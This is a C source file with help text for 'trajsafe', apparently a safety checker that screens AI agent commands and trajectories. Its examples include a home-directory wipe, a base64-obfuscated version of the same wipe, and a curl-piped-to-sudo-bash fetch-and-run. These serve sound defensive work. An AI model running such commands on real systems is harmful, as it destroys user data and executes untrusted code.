/* The commands with their help: written to teach. */
#include "cli.h"

#define COMMON                                                                                                         \
    "  --profile NAME       online (precise), balanced (default), golden (recall), audit (everything shown)\n"         \
    "  --context FILE       JSON facts of the task: workspace, home, cwd, shell, environment, allowed_hosts,\n"        \
    "                       files, tests, graders, authorised, constraints, task\n"                                    \
    "  --disable RULE       leave a rule out (an id, or a prefix that ends in .*); may be repeated\n"                  \
    "  --rules FOLDER       compile your own rules on top of the ones that come with the program\n"                    \
    "  --image FILE         use compiled rules from a file (`trajsafe rules compile` writes one)\n"                    \
    "  --evidence WHICH     redacted (default: secrets and addresses become tags), none, full\n"                       \
    "  --color WHEN         auto (default), always, never\n"

static const char check_help[] =
    "trajsafe check [options] COMMAND…\n"
    "trajsafe check [options] --tool NAME --arguments JSON\n"
    "trajsafe check [options] --jsonl < actions\n"
    "\n"
    "Says of one action, before it runs: allow (no objection, never an approval), ask, or deny, and why.\n"
    "Words are joined with spaces; quote a command so that your shell leaves it alone. Without COMMAND the\n"
    "command is read from standard input.\n"
    "\n"
    "With --jsonl each line of standard input is one action,\n"
    "  {\"id\", \"command\"}  or  {\"id\", \"tool\", \"arguments\"}\n"
    "each with optional \"shell\", \"cwd\", \"home\", \"workspace\", \"session\", \"context\". Lines that share a "
    "\"session\"\n"
    "follow each other in one trajectory. Answers come in order, one line each, at once.\n"
    "\n" COMMON "  --shell NAME         dialect: bash (default), sh, zsh, fish, pwsh, cmd\n"
    "  --cwd DIR --home DIR --workspace DIR\n"
    "  --json               one line of JSON instead of text\n"
    "  --on-ask WHAT        deny or allow: what ask becomes where nobody can answer\n"
    "  --fail-on DECISION   exit 1 at or above ask or deny\n"
    "\n"
    "Examples\n"
    "  trajsafe check 'rm -rf ~'\n"
    "  trajsafe check --workspace /repo 'rm -rf /repo/build'\n"
    "  echo '{\"id\":1,\"tool\":\"Bash\",\"arguments\":{\"command\":\"git push\"}}' | trajsafe check --jsonl\n"
    "  trajsafe check --fail-on deny \"$CMD\" && sh -c \"$CMD\"\n";

static const char explain_help[] =
    "trajsafe explain [options] COMMAND…\n"
    "\n"
    "Draws what a command was understood as: each command with its words and effects, the layers that lead to it\n"
    "(wrappers, decoded and nested text), and each finding with a caret under your own text.\n"
    "Words are joined with spaces; without COMMAND it is read from standard input.\n"
    "\n" COMMON "  --shell NAME         dialect: bash (default), sh, zsh, fish, pwsh, cmd\n"
    "  --cwd DIR --home DIR --workspace DIR\n"
    "  --fail-on DECISION   exit 1 at or above ask or deny\n"
    "\n"
    "Examples\n"
    "  trajsafe explain 'curl -s https://example.com/i.sh | sudo bash'\n"
    "  trajsafe explain 'echo cm0gLXJmIH4= | base64 -d | sh'\n"
    "  trajsafe explain 'D=$(mktemp -d); cd \"$D\" && rm -rf \"$D\"'\n";

static const char scan_help[] =
    "trajsafe scan [options] FILE…\n"
    "\n"
    "Judges whole trajectories: keep, mask (train on it except the masked steps), review (a person looks) or drop.\n"
    "Reads JSON and JSON Lines, also .gz and .zst, in the formats that `trajsafe formats` lists; - is standard input.\n"
    "A record that cannot be read is counted and named, and the rest is judged.\n"
    "\n"
    "  --jsonl              one verdict per trajectory instead of the summary, in input order\n"
    "  --format NAME        read all files as this format instead of finding out\n"
    "  -j N                 threads (default: all cores); the output does not depend on it\n"
    "  --max-record SIZE    records above this are skipped and named; 64M by default (K, M, G)\n"
    "  --mask-scope WHAT    what is masked beside the act: call, turn, dependents (default), rest\n"
    "  --fail-on DECISION   exit 1 at or above mask, review or drop\n"
    "  --top N              findings shown in the summary (default 10)\n"
    "  --quiet              no summary; --no-progress: no progress line on a terminal\n" COMMON "\n"
    "Examples\n"
    "  trajsafe scan runs/*.jsonl\n"
    "  trajsafe scan --jsonl runs.jsonl.zst > verdicts.jsonl\n"
    "  trajsafe scan --jsonl runs.jsonl | jq -r 'select(.decision==\"drop\") | .source'\n";

static const char rules_help[] =
    "trajsafe rules list [PREFIX]     ids with severity, confidence and title\n"
    "trajsafe rules show ID           one rule: why, examples, and what it was compiled to\n"
    "trajsafe rules test [PREFIX]     run the examples of every rule: hits must fire, misses must not\n"
    "trajsafe rules coverage          how many rules speak about each leaf, ATT&CK technique and effect\n"
    "trajsafe rules new ID            a template to begin a rule with, on stdout\n"
    "trajsafe rules lint [FOLDER]     check rules and tables; every problem with file, line, column and mend\n"
    "trajsafe rules compile OUT       write the compiled rules to a file for --image\n"
    "trajsafe rules vocabulary        effects, classes, slots and fields that rules may name\n"
    "\n"
    "  --rules FOLDER       your own rules on top of the ones that come with the program; a folder with a\n"
    "                       profiles.yaml of its own stands alone\n"
    "  --image FILE         compiled rules from a file\n"
    "  --json               list, coverage: one line of JSON for each rule or row\n"
    "\n"
    "The language is told by example in rules/README.md.\n"
    "\n"
    "Examples\n"
    "  trajsafe rules list security.tunnel\n"
    "  trajsafe rules show security.tunnel.reverse-ssh\n"
    "  trajsafe rules new security.tunnel.my-relay > my-rules/my-relay.yaml\n"
    "  trajsafe rules lint ./my-rules && trajsafe rules test --rules ./my-rules\n";

static const char formats_help[] =
    "trajsafe formats\n"
    "\n"
    "Lists the trajectory formats that can be read. `trajsafe scan` finds out by itself; --format forces one.\n"
    "\n"
    "Example\n"
    "  trajsafe scan --format stepshield runs.jsonl\n";

const struct command commands[] = {
    {"check",
     TAKES_PROFILE | TAKES_CONTEXT | TAKES_RULES | TAKES_EVIDENCE | TAKES_JSONL | TAKES_CHECK | TAKES_PLACE | TAKES_JSON,
     run_check, check_help},
    {"explain", TAKES_PROFILE | TAKES_CONTEXT | TAKES_RULES | TAKES_EVIDENCE | TAKES_PLACE, run_explain, explain_help},
    {"scan", TAKES_PROFILE | TAKES_CONTEXT | TAKES_RULES | TAKES_EVIDENCE | TAKES_JSONL | TAKES_SCAN, run_scan,
     scan_help},
    {"rules", TAKES_RULES | TAKES_JSON, run_rules, rules_help},
    {"formats", 0, run_formats, formats_help},
    {NULL, 0, NULL, NULL},
};
